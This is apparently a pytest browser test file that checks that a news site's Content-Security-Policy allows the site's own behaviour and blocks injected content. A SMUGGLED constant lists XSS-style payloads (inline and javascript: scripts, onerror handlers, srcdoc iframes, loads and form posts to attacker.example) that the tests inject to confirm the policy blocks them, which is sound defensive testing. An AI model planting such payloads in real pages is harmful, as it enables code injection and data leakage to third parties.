"""The Content-Security-Policy allows what the site does, and blocks what an article could inject."""

from __future__ import annotations

import base64
import hashlib
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, ClassVar

import pytest

from tests.browser import WIDE
from tests.browser.conftest import Host
from tests.sites import REPOSITORY

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

HEADER = "Content-Security-Policy"
IN_PAGE = re.compile(r'\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
SCRIPT = re.compile(r"<script(?P<attributes>[^>]*)>(?P<text>.*?)</script>", re.DOTALL)
BOTH = pytest.mark.parametrize("sent", ["as a header", "within the page"])

# Everything that would run foreign code, or send requests to another host.
SMUGGLED = """
<script>window.ran = "inline script"</script>
<script src="data:text/javascript,window.ran='data script'"></script>
<script src="https://attacker.example/x.js"></script>
<img src="x-not-there.png" onerror="window.ran = 'handler'">
<img src="https://attacker.example/pixel.gif">
<iframe src="javascript:parent.ran='frame'"></iframe>
<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
<a id="trap" href="javascript:window.ran='link'">here</a>
<style>@import "https://attacker.example/x.css"; body { background: url(https://attacker.example/y.gif) }</style>
<object data="https://attacker.example/x.swf"></object>
<form id="form" action="https://attacker.example/"><input name="q"></form>
"""


def stated() -> str:
    """The policy of docs/_headers."""
    found = re.search(rf"^  {HEADER}: (.+)$", (REPOSITORY / "docs/_headers").read_text(encoding="utf-8"), re.MULTILINE)
    assert found
    return found[1]


def written(site: Path) -> Iterator[tuple[Path, str]]:
    for path in site.rglob("*.html"):
        yield path, path.read_text(encoding="utf-8")


class Guarded(Host):
    """Serves a site with its policy as a header alone, or with that within the page alone."""

    as_header: ClassVar[bool] = True
    smuggled: ClassVar[str] = ""

    def do_GET(self) -> None:  # noqa: N802 - the name that the library calls
        found = Path(self.translate_path(self.path))
        found = found / "index.html" if found.is_dir() else found
        if found.suffix != ".html" or not found.is_file():
            super().do_GET()
            return
        text = found.read_text(encoding="utf-8")
        if self.as_header:
            text = IN_PAGE.sub("", text)
        content = text.replace("</article>", f"{self.smuggled}</article>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        if self.as_header:
            self.send_header(HEADER, stated())
        self.end_headers()
        self.wfile.write(content)


@contextmanager
def guarded(site: Path, sent: str, smuggled: str = "") -> Iterator[str]:
    handler = type("Handler", (Guarded,), {"as_header": sent == "as a header", "smuggled": smuggled})
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(site))) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()


@contextmanager
def watched(chromium: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A tab, and what the policy forbids in it."""
    context = chromium.new_context(viewport=WIDE)  # type: ignore[arg-type]
    page = context.new_page()
    page.set_default_timeout(10_000)
    violations: list[str] = []
    page.expose_function("violated", lambda what: violations.append(what))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', event =>"
        " violated(`${event.violatedDirective} ${event.blockedURI} ${event.sample} ${location.pathname}`))"
    )
    page.on("console", lambda said: violations.append(said.text) if "Security Policy" in said.text else None)
    try:
        yield page, violations
    finally:
        context.close()


@BOTH
def test_nothing_that_the_site_does_is_against_its_policy(
    chromium: Browser, built_site: Path, kinds: list[str], sent: str
) -> None:
    with guarded(built_site / "site", sent) as address, watched(chromium) as (page, violations):
        for kind in kinds:
            page.goto(address + kind)
        page.goto(f"{address}articles/mayor-ada-lund-opens-the-new-harbour-in-bergen/")
        page.locator("label[title='Switch to dark colours']").click()
        page.wait_for_selector("body[data-md-color-scheme=slate]")
        page.reload()
        page.wait_for_selector("body[data-md-color-scheme=slate]")
        page.locator("#s1 > a", has_text="Ada Lund").hover()
        page.locator("#briefing-card").wait_for(state="visible")
        page.keyboard.press("Escape")
        page.keyboard.press("/")
        page.keyboard.type("strike")
        page.locator("dialog[open] a[href*='dock-workers']").first.click()
        page.wait_for_url("**/articles/dock-workers*/**")
        page.goto(f"{address}places/")
        page.get_by_role("button", name="Mentions").click()
        assert violations == []


@BOTH
def test_nothing_injected_into_a_page_runs_or_requests_another_host(
    chromium: Browser, built_site: Path, sent: str
) -> None:
    with (
        guarded(built_site / "site", sent, SMUGGLED) as address,
        watched(chromium) as (page, violations),
    ):
        asked: list[str] = []
        # The browser reports a request before its policy blocks it; only answered ones were sent.
        page.context.route("https://attacker.example/**", lambda route: route.abort())
        page.context.on("requestfailed", lambda request: asked.append(f"{request.failure} {request.url}"))
        page.goto(address)
        page.evaluate("document.getElementById('trap').click()")
        page.evaluate("document.getElementById('form').requestSubmit()")
        page.wait_for_timeout(300)
        assert page.evaluate("window.ran") is None
        assert page.url == address
        assert [one for one in asked if "attacker" in one and "csp" not in one.lower()] == []
        stopped = {one.split()[0] for one in violations}
        assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "form-action"} <= stopped


def test_the_policy_names_the_hash_of_every_script_that_is_part_of_a_page(built_site: Path) -> None:
    allowed = set(re.findall(r"'sha256-([^']+)'", stated()))
    found = set()
    for path, text in written(built_site / "site"):
        for script in SCRIPT.finditer(text):
            attributes = script["attributes"]
            if "application/" not in attributes and "src=" not in attributes:
                hashed = base64.b64encode(hashlib.sha256(script["text"].encode()).digest()).decode()
                assert hashed in allowed, f"{path}: not in the policy: {hashed}"
                found.add(hashed)
    assert found == allowed


def test_every_page_has_the_policy_that_hosts_should_send(built_site: Path) -> None:
    # A browser heeds `frame-ancestors` in a header only.
    expected = stated().replace("; frame-ancestors 'none'", "")
    assert "unsafe-inline" not in expected
    for path, text in written(built_site / "site"):
        assert IN_PAGE.findall(text) == [expected], path
        assert text.index("http-equiv") < text.index("<script"), path


def test_no_page_has_a_style_or_a_handler_in_an_attribute(built_site: Path) -> None:
    for path, text in written(built_site / "site"):
        assert not re.search(r"<[a-z][^<>]*\s(?:style|on[a-z]+)=", text), path
